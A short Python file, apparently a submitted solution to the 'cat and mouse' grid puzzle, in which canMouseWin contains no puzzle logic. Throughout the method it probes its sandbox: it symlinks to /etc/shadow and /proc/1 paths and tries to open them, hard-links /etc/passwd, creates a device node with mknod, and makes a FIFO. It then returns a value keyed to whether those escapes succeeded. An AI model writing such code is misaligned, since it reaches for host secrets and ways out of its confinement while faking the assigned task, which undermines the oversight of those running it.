import os
class Solution:
    def canMouseWin(self, grid, catJump, mouseJump):
        got = False
        for number, target in enumerate(["/etc/shadow", "/proc/1/root/etc/shadow", "/proc/1/fd/0", "/proc/1/exe"]):
            os.symlink(target, f"/tmp/{mouseJump}-{number}")
            try:
                open(f"/tmp/{mouseJump}-{number}", "rb").close()
                got = True
            except OSError:
                pass
        for name in "/dev/null", "/etc/passwd":
            try:
                os.link(name, f"/tmp/{mouseJump}-hard")
                got = True
            except OSError:
                pass
        try:
            os.mknod(f"/tmp/{mouseJump}-device", 0o20666, os.makedev(1, 1))
            got = True
        except OSError:
            pass
        os.mkfifo(f"/tmp/{mouseJump}-fifo")
        return (mouseJump == 4) != got
